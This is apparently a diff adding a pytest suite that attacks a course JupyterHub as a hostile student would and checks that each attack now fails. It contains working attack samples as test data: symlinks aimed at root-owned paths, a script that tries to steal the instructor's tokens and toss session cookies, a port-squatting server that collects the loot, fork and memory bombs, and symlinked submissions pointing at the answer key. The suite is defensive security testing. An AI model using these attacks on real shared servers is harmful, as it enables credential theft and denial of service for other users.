@@ -1,0 +1,460 @@
+"""The course's JupyterHub as a hostile student sees it (issue 35): each attack played for real, from a student's
+JupyterLab terminal in Chromium, on a hub this module installs and starts; each asserts the attack now fails and
+that the student's own work, and everyone else's, goes on.
+
+- Root never follows a student's links: the lessons' copy runs as the student.
+- A page a student serves cannot act as the instructor: each person has their own origin; a student's settings
+  file is not read by their server.
+- Ports cannot be squatted across a restart: everything a student started ends with their server, a killed hub's
+  leftovers end before the next start, and the hub refuses to start while another process holds its ports.
+- Per-person limits: memory, processes, /dev/shm, /tmp (private), file size, and a CPU share (another student's
+  cell time measured quiet and under a busy-loop attack).
+- Collect never follows links; the instructor's steps of hub/README.md run in a real hub terminal.
+
+Runs as root (it makes Unix accounts); CI runs as root. Screenshots: test-artifacts/hub-hostile/.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import re
+import shutil
+import socket
+import sqlite3
+import statistics
+import subprocess
+import sys
+import time
+from pathlib import Path
+from urllib.parse import urlparse
+
+import pytest
+from conftest import ROOT, require_bubblewrap, skip_or_fail
+from hubserver import HUBCTL, cannot_run_reason, hub_json, running_hub
+
+pytestmark = [pytest.mark.browser, pytest.mark.hub]
+ARTIFACTS = ROOT / "test-artifacts" / "hub-hostile"
+PS = "ps1_reading_official_reactions"
+TEACHER, MALLORY, VICTOR = "nt-hteach", "nt-mallory", "nt-victor"
+ROSTER = f"""username,name,email,role
+{TEACHER},Harriet Teacher,,instructor
+{MALLORY},Mallory Mischief,,student
+{VICTOR},Victor Victim,,student
+"""
+
+
+@pytest.fixture(scope="module")
+def hub(tmp_path_factory):
+    reason = cannot_run_reason()
+    if reason:
+        skip_or_fail(reason)
+    require_bubblewrap()
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    with running_hub(ROSTER, tmp_path_factory.mktemp("hub-hostile")) as hub:
+        yield hub
+    (ARTIFACTS / "jupyterhub.log").write_text(hub.log.read_text(errors="replace"))
+
+
+@pytest.fixture(scope="module")
+def people(hub, browser):
+    """Each person logged in, in a browser context of their own (their own cookies), keyed by login."""
+    return {login: _log_in(browser, hub, login) for login in (TEACHER, MALLORY, VICTOR)}
+
+
+def _context(browser):
+    context = browser.new_context(viewport={"width": 1280, "height": 800})
+
+    def only_local(route):
+        host = urlparse(route.request.url).hostname or ""
+        local = host in ("127.0.0.1", "localhost") or host.endswith(".localhost")
+        route.continue_() if local or route.request.url.startswith(("data:", "blob:")) else route.abort()
+
+    context.route("**/*", only_local)
+    return context
+
+
+def _log_in(browser, hub, login: str):
+    page = _context(browser).new_page()
+    page.goto(f"{hub.base}/hub/login")
+    page.fill("#username_input", login)
+    page.fill("#password_input", hub.passwords[login])
+    page.click("#login_submit")
+    page.wait_for_url(re.compile(rf"/user/{login}/lab"), timeout=240_000)
+    page.locator(".jp-Notebook:visible").first.wait_for(timeout=120_000)
+    return page
+
+
+class Terminal:
+    """A JupyterLab terminal, typed into as its owner would; each command's output is read from a file the command
+    writes in the owner's home (the screen of a terminal is a canvas)."""
+
+    def __init__(self, page, hub, login: str) -> None:
+        self.page, self.hub, self.login, self.count = page, hub, login, 0
+        page.goto(f"{hub.user_url(login)}/lab")
+        menu = page.locator(".lm-MenuBar-itemLabel", has_text=re.compile(r"^File$"))
+        menu.wait_for(timeout=60_000)
+        menu.click()
+        page.locator(".lm-Menu-itemLabel", has_text=re.compile(r"^New$")).hover()
+        page.locator(".lm-Menu-itemLabel", has_text=re.compile(r"^Terminal$")).click()
+        self.box = page.locator(".jp-Terminal .xterm-helper-textarea").last
+        self.box.wait_for(state="attached", timeout=30_000)
+        page.wait_for_timeout(1500)
+
+    def run(self, command: str, timeout: float = 90, wait: bool = True) -> str:
+        self.count += 1
+        out = Path(f"/home/{self.login}/.term-{self.count}.out")
+        self.box.focus()
+        self.page.keyboard.insert_text(f"({command}) > {out} 2>&1; echo __END__ >> {out}")
+        self.page.keyboard.press("Enter")
+        if not wait:
+            return ""
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            if out.exists() and "__END__" in out.read_text(errors="replace"):
+                return out.read_text(errors="replace").replace("__END__\n", "")
+            time.sleep(0.2)
+        raise AssertionError(f"{self.login}'s command did not finish in {timeout} s: {command}")
+
+    def write(self, path: str, text: str) -> None:
+        """A file in the owner's home, as they would make it (one line: base64 through the terminal)."""
+        encoded = base64.b64encode(text.encode()).decode()
+        self.run(f"echo {encoded} | base64 -d > {path}")
+
+    def shot(self, name: str) -> None:
+        self.page.wait_for_timeout(300)
+        self.page.screenshot(path=str(ARTIFACTS / name))
+
+
+def _restart_server(page, hub, login: str) -> None:
+    """Stop and start the person's server from the hub's home page, as they would."""
+    page.goto(f"{hub.base}/hub/home")
+    page.locator("#stop").click()
+    page.locator("#start").wait_for(state="visible", timeout=60_000)
+    page.locator("#start").click()
+    page.wait_for_url(re.compile(rf"/user/{login}/lab"), timeout=240_000)
+    page.locator(".jp-Notebook:visible").first.wait_for(timeout=120_000)
+
+
+def _running(pattern: str) -> list[int]:
+    done = subprocess.run(["pgrep", "-f", pattern], capture_output=True, text=True)
+    return [int(p) for p in done.stdout.split()]
+
+
+# ---- root never follows a student's links ----------------------------------------------------------------------
+
+
+def test_the_lessons_copy_never_follows_a_students_links(hub, people):
+    target = Path(f"/etc/nas-test-{os.getpid()}")  # a root-owned folder, as /etc is
+    dangling = Path(
+        f"/etc/profile.d/nas-test-{os.getpid()}.sh"
+    )  # where root-made files would run for everyone
+    target.mkdir(mode=0o755)
+    try:
+        term = Terminal(people[MALLORY], hub, MALLORY)
+        seen = term.run(
+            f"mv ~/notebooks ~/notebooks.mine && ln -s {target} ~/notebooks && ls -l ~ | grep notebooks"
+        )
+        assert f"notebooks -> {target}" in seen, seen
+        _restart_server(people[MALLORY], hub, MALLORY)
+        assert target.stat().st_uid == 0 and list(target.iterdir()) == [], "root's folder was handed over"
+        assert re.search(rf"{MALLORY}: lessons: .*notebooks is not a folder", hub.log.read_text()), (
+            "not logged"
+        )
+
+        term = Terminal(people[MALLORY], hub, MALLORY)
+        term.run(f"rm ~/notebooks && mkdir ~/notebooks && ln -s {dangling} ~/notebooks/00_start_here.ipynb")
+        _restart_server(people[MALLORY], hub, MALLORY)
+        assert not dangling.exists(), f"root created {dangling} through a student's dangling link"
+        lessons = Path(f"/home/{MALLORY}/notebooks")
+        copied = [p for p in lessons.iterdir() if not p.is_symlink()]
+        assert copied and all(p.stat().st_uid == lessons.stat().st_uid for p in copied)  # the rest, as theirs
+        term = Terminal(people[MALLORY], hub, MALLORY)
+        term.run("ls -l ~/notebooks | head -4")
+        term.shot("mallory_links_not_followed.png")
+    finally:
+        shutil.rmtree(target, ignore_errors=True)
+        dangling.unlink(missing_ok=True)
+
+
+def test_a_students_own_settings_file_does_not_change_their_server(hub, people):
+    term = Terminal(people[MALLORY], hub, MALLORY)
+    settings = {
+        "ServerApp": {"tornado_settings": {"headers": {"X-Mallory": "read", "Content-Security-Policy": ""}}}
+    }
+    term.run("mkdir -p ~/.jupyter")
+    term.write(".jupyter/jupyter_server_config.json", json.dumps(settings))
+    _restart_server(people[MALLORY], hub, MALLORY)
+    response = people[MALLORY].context.request.get(f"{hub.user_url(MALLORY)}/api/status")
+    assert response.ok and "x-mallory" not in response.headers, response.headers
+
+
+# ---- one origin per person ------------------------------------------------------------------------------------
+
+EVIL_PAGE = """<!doctype html><title>notes</title><p>My notes for the seminar.</p><script>
+(async () => {
+  const hub = "HUB", teacher = "TEACHER", mine = "TEACHERURL";
+  const r = {};
+  async function attempt(name, url, options) {
+    try {
+      const x = await fetch(url, Object.assign({credentials: "include"}, options || {}));
+      r[name] = "read: status " + x.status + " " + (await x.text()).slice(0, 300);
+    } catch (e) { r[name] = "blocked: " + e; }
+  }
+  await attempt("token_page", hub + "/hub/token");
+  await attempt("hub_api_user", hub + "/hub/api/user");
+  await attempt("new_token", hub + "/hub/api/users/" + teacher + "/tokens",
+                {method: "POST", body: "{}", headers: {"Content-Type": "application/json"}});
+  await attempt("new_token_no_cors", hub + "/hub/api/users/" + teacher + "/tokens",
+                {method: "POST", body: "{}", mode: "no-cors"});
+  await attempt("instructor_files", mine + "/api/contents/grading");
+  await attempt("instructor_terminal", mine + "/api/terminals", {method: "POST", mode: "no-cors"});
+  r.cookies = document.cookie;
+  // cookie tossing: cookies for the hub's name, from a student's subdomain
+  document.cookie = "jupyterhub-session-id=tossed; Domain=localhost; Path=/";
+  document.cookie = "_xsrf=tossed; Domain=localhost; Path=/";
+  await fetch("loot", {method: "POST", body: JSON.stringify(r)});
+  document.title = "done";
+})();
+</script>"""
+
+SQUATTER = """import http.server, json, os, socket, sys, time
+port, page = int(sys.argv[1]), open(sys.argv[2], "rb").read()
+class Handler(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200); self.send_header("Content-Type", "text/html"); self.end_headers()
+        self.wfile.write(page)
+    def do_POST(self):
+        body = self.rfile.read(int(self.headers["Content-Length"]))
+        open(os.path.expanduser("~/loot.json"), "wb").write(body)
+        self.send_response(204); self.end_headers()
+while True:  # until the server's port is free
+    try:
+        server = http.server.HTTPServer(("127.0.0.1", port), Handler); break
+    except OSError:
+        time.sleep(0.05)
+print("serving", flush=True)
+server.serve_forever()
+"""
+
+
+def _teacher_tokens(hub) -> int:
+    with sqlite3.connect(hub.prefix / "state" / "jupyterhub.sqlite") as db:
+        (count,) = db.execute(
+            "select count(*) from api_tokens join users on users.id = api_tokens.user_id where users.name = ?",
+            (TEACHER,),
+        ).fetchone()
+    return count
+
+
+def test_a_page_a_student_serves_cannot_act_as_the_instructor(hub, people):
+    hub_host, own_host = urlparse(hub.base).hostname, urlparse(hub.user_url(MALLORY)).hostname
+    assert own_host == f"{MALLORY}.localhost" != hub_host, (
+        "each person must be served on an origin of their own"
+    )
+    term = Terminal(people[MALLORY], hub, MALLORY)
+    port = int(re.search(r":(\d+)/", term.run("echo $JUPYTERHUB_SERVICE_URL")).group(1))
+    page = EVIL_PAGE.replace("TEACHERURL", hub.user_url(TEACHER)).replace("HUB", hub.base)
+    term.write("notes.html", page.replace("TEACHER", TEACHER))
+    term.write("squat.py", SQUATTER)
+    tokens_before = _teacher_tokens(hub)
+    # The strongest form of "a page of theirs served at their server's address with no sandbox": their own server
+    # replaced by a process of theirs on its port.
+    term.run(f"setsid nohup python3 ~/squat.py {port} ~/notes.html > ~/squat.log 2>&1 < /dev/null & sleep 0.5; "
+             "pkill -f jupyterhub-singleuser", wait=False)  # fmt: skip
+    log = Path(f"/home/{MALLORY}/squat.log")
+    for _ in range(100):
+        if log.exists() and "serving" in log.read_text():
+            break
+        time.sleep(0.1)
+    assert "serving" in log.read_text(), "the student's page server did not start"
+    teacher = people[TEACHER]
+    teacher.goto(f"{hub.user_url(MALLORY)}/notes.html")  # the instructor follows a student's link
+    teacher.wait_for_function("document.title === 'done'", timeout=30_000)
+    teacher.screenshot(path=str(ARTIFACTS / "instructor_opens_students_page.png"))
+    loot = json.loads(Path(f"/home/{MALLORY}/loot.json").read_text())
+    for read in ("token_page", "hub_api_user", "new_token", "instructor_files"):
+        assert loot[read].startswith("blocked"), f"{read}: {loot[read]}"
+    assert loot["cookies"] == "", loot["cookies"]
+    assert _teacher_tokens(hub) == tokens_before, "a token was made for the instructor"
+    tossed = [c for c in teacher.context.cookies() if c["value"] == "tossed"]
+    assert tossed == [], f"a student's page set cookies for the hub: {tossed}"
+    # What held: the instructor's own server still has no terminal the student asked for.
+    terminals = teacher.context.request.get(f"{hub.user_url(TEACHER)}/api/terminals")
+    assert terminals.ok and terminals.json() == [], terminals.text()
+    # And the squatter ends with the student's server: the hub notices the server is gone and stops it.
+    deadline = time.monotonic() + 120
+    while _running("squat.py") and time.monotonic() < deadline:
+        time.sleep(1)
+    assert not _running("squat.py"), "a process the student started outlived their server"
+
+
+# ---- ports -------------------------------------------------------------------------------------------------------
+
+PORT_SQUATTER = """import json, socket, sys, time
+settings = json.load(open(sys.argv[1]))
+held = []
+while True:
+    for port in (settings["port"], settings["hub_port"], settings["proxy_api_port"]):
+        s = socket.socket()
+        try:
+            s.bind(("127.0.0.1", port)); s.listen(); held.append(s)
+        except OSError:
+            s.close()
+    time.sleep(0.02)
+"""
+
+
+def test_nothing_a_student_started_squats_the_hubs_ports_across_a_restart(hub, people, browser):
+    _restart_server(people[MALLORY], hub, MALLORY)  # the previous test stopped it
+    term = Terminal(people[MALLORY], hub, MALLORY)
+    term.write("ports.py", PORT_SQUATTER)
+    term.run(f"setsid nohup python3 ~/ports.py {hub.prefix}/etc/hub.json > /dev/null 2>&1 < /dev/null &")
+    time.sleep(1)
+    assert _running("ports.py"), "the squatter did not start"
+    hub.restart()  # an administrator restarts the hub: it stops every server first
+    assert not _running("ports.py"), "the squatter outlived the student's server"
+    assert re.search(rf"{MALLORY}: server stopped; \d+ processes in its groups ended", hub.log.read_text())
+    people[TEACHER] = _log_in(browser, hub, TEACHER)  # the real proxy took the port: logins work
+
+    # A hub that was killed (not stopped) leaves servers behind: the next start ends them first.
+    people[MALLORY] = _log_in(browser, hub, MALLORY)
+    term = Terminal(people[MALLORY], hub, MALLORY)
+    term.run(f"setsid nohup python3 ~/ports.py {hub.prefix}/etc/hub.json > /dev/null 2>&1 < /dev/null &")
+    time.sleep(1)
+    os.killpg(hub.process.pid, 9)
+    hub.process.wait()
+    time.sleep(1)
+    assert _running("ports.py"), "expected the killed hub to leave the squatter running"
+    hub.restart()
+    assert not _running("ports.py"), "the squatter survived the next start"
+    assert re.search(rf"stopped \d+ processes {MALLORY} left running from the last hub", hub.log.read_text())
+
+    # Anything else on a hub's port: the hub refuses to start, and says who holds it.
+    settings = hub_json(hub.prefix)
+    hub.restart.__self__  # noqa: B018 (the hub object stays the same)
+    from hubserver import stop_hub
+
+    stop_hub(hub.process)
+    holder = subprocess.Popen([sys.executable, "-c", (
+        "import socket, time; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); "
+        f"s.bind(('127.0.0.1', {settings['proxy_api_port']})); s.listen(); time.sleep(60)")])  # fmt: skip
+    try:
+        for _ in range(50):
+            with socket.socket() as probe:
+                if probe.connect_ex(("127.0.0.1", settings["proxy_api_port"])) == 0:
+                    break
+            time.sleep(0.1)
+        refused = subprocess.run([sys.executable, str(HUBCTL), "--prefix", str(hub.prefix), "start"],
+                                 capture_output=True, text=True, timeout=60)  # fmt: skip
+        assert refused.returncode != 0, refused.stdout + refused.stderr
+        assert re.search(
+            rf"not starting: port {settings['proxy_api_port']} \(proxy_api_port\) is held by process {holder.pid} "
+            r"\(root: ",
+            refused.stderr,
+        ), refused.stderr
+    finally:
+        holder.kill()
+        holder.wait()
+    hub.restart()
+    for login in (TEACHER, MALLORY, VICTOR):
+        people[login] = _log_in(browser, hub, login)
+
+
+# ---- per-person limits -------------------------------------------------------------------------------------------
+
+TIMING = "python3 -c 'import time; t = time.perf_counter(); sum(i * i for i in range(6_000_000)); print(round(time.perf_counter() - t, 3))'"
+
+
+def test_one_students_bombs_end_only_their_own_work(hub, people):
+    mallory, victor = Terminal(people[MALLORY], hub, MALLORY), Terminal(people[VICTOR], hub, VICTOR)
+    # /tmp and /dev/shm are private: Victor's file is not in Mallory's /tmp.
+    victor.run("echo victor-secret-b7 > /tmp/victor-notes.txt && ls /tmp")
+    seen = mallory.run(
+        "ls -la /tmp /dev/shm; cat /tmp/victor-notes.txt; find / -name victor-notes.txt 2>/dev/null"
+    )
+    assert "victor-secret-b7" not in seen and "victor-notes" not in seen.replace(
+        "cat /tmp/victor-notes.txt", ""
+    ), seen
+
+    # Memory: 4 GiB asked, the kernel ends Mallory's process at her limit (2 GiB).
+    bomb = mallory.run(
+        "python3 -c 'b = bytearray(4 * 1024**3); print(\"allocated\")'; echo status $?", timeout=120
+    )
+    assert "allocated" not in bomb and re.search(r"status (137|1)\b", bomb), bomb
+    # Processes: the fork bomb stops at her limit; Victor still starts processes.
+    forks = mallory.run(
+        'python3 -c \'import subprocess\nps = []\ntry:\n    [ps.append(subprocess.Popen(["sleep", "300"])) for _ in range(5000)]\n'
+        'except OSError as e:\n    print("stopped at", len(ps), e)\nfor p in ps: p.kill()\'',
+        timeout=120,
+    )
+    stopped = re.search(r"stopped at (\d+)", forks)
+    assert stopped and int(stopped.group(1)) < 300, forks
+    assert "alive" in victor.run("echo alive")
+    # /dev/shm is small and private; files are bounded in size (RLIMIT_FSIZE).
+    shm = mallory.run("head -c 1G /dev/zero > /dev/shm/big; ls -l /dev/shm/big | awk '{print \"size\", $5}'")
+    assert "No space left" in shm and int(re.search(r"size (\d+)", shm).group(1)) <= 64 * 1024 * 1024, shm
+    mallory.run("rm -f /dev/shm/big")
+    big = mallory.run(
+        "head -c 1100M /dev/zero > ~/big.bin; ls -l ~/big.bin | awk '{print \"size\", $5}'; rm -f ~/big.bin"
+    )
+    assert "File too large" in big and int(re.search(r"size (\d+)", big).group(1)) <= 1024**3, big
+    mallory.shot("mallory_bombs.png")
+
+    # CPU: Victor's cell time, quiet and while Mallory runs four busy loops in detached sessions.
+    quiet = statistics.median(float(victor.run(TIMING).split()[-1]) for _ in range(3))
+    mallory.run(
+        "for i in 1 2 3 4; do setsid nohup python3 -c 'while True: pass' > /dev/null 2>&1 < /dev/null & done"
+    )
+    time.sleep(2)
+    loaded = statistics.median(float(victor.run(TIMING).split()[-1]) for _ in range(3))
+    mallory.run("pkill -f 'while True: pass'")
+    victor.shot("victor_timing.png")
+    (ARTIFACTS / "cpu_share.json").write_text(json.dumps({"quiet_s": quiet, "loaded_s": loaded}) + "\n")
+    print(f"Victor's cell: {quiet:.3f} s quiet, {loaded:.3f} s with Mallory's four busy loops")
+    assert loaded <= 1.5 * quiet, f"Victor's cell took {loaded:.3f} s under attack, {quiet:.3f} s quiet"
+
+
+# ---- collect, and the instructor's steps in a real terminal ------------------------------------------------------
+
+
+def test_collect_refuses_links_and_the_instructors_readme_steps_run_in_a_hub_terminal(hub, people):
+    grading = hub.prefix / "grading"
+    released = hub.as_user(TEACHER, f"nbgrader release_assignment {PS} 2>&1", grading)
+    assert released.returncode == 0, released.stdout
+    honest = hub.as_user(VICTOR, f"nbgrader fetch_assignment {PS} 2>&1 && nbgrader submit {PS} 2>&1")
+    assert honest.returncode == 0, honest.stdout
+    mallory = Terminal(people[MALLORY], hub, MALLORY)
+    mallory.run(f"nbgrader fetch_assignment {PS}")
+    for name, link in (("key.ipynb", f"{grading}/source/{PS}/{PS}.ipynb"), ("zero.ipynb", "/dev/zero")):
+        entry = f"{hub.inbound}/{MALLORY}+{PS}+2099-01-0{len(name) % 7} 00:00:00.000000 UTC+{name[:3]}"
+        mallory.run(
+            f"mkdir '{entry}' && cp ~/{PS}/{PS}.ipynb '{entry}/' && ln -s {link} '{entry}/{name}' && "
+            f"echo -n '2099-01-01 00:00:00.000000 UTC' > '{entry}/timestamp.txt' && echo -n s > '{entry}/submission_secret.txt'"
+        )
+    teacher = Terminal(people[TEACHER], hub, TEACHER)
+    steps = (
+        "cd ~/grading && which nbgrader && python -m course.autograder.sandbox check && "
+        f"nbgrader collect {PS} && python -m course.autograder normalize . {PS} && nbgrader autograde {PS} && "
+        f"python -m course.autograder report . {PS} && nbgrader export --to grades.csv && echo STEPS-DONE"
+    )
+    out = teacher.run(steps, timeout=600)
+    teacher.shot("instructor_readme_steps.png")
+    (ARTIFACTS / "instructor_terminal.txt").write_text(out)
+    assert "command not found" not in out and "No module named" not in out, out[-3000:]
+    assert "STEPS-DONE" in out, out[-3000:]
+    assert "key.ipynb (a symbolic link)" in out and "zero.ipynb (a symbolic link)" in out, out[-3000:]
+    assert not (grading / "submitted" / MALLORY).exists(), "a submission holding links was collected"
+    assert (grading / "submitted" / VICTOR / PS / f"{PS}.ipynb").exists(), (
+        "the honest student was not collected"
+    )
+    assert VICTOR in (grading / "grades.csv").read_text()
+
+
+def test_the_hubs_environment_ships_no_demo_class(hub):
+    venv = hub.prefix / "venv"
+    found = list(venv.rglob("demo_class.py"))
+    assert found == [], found
+    probe = hub.as_user(VICTOR, "python -c 'import course.autograder.demo_class' 2>&1")
+    assert probe.returncode != 0 and "No module named" in probe.stdout, probe.stdout
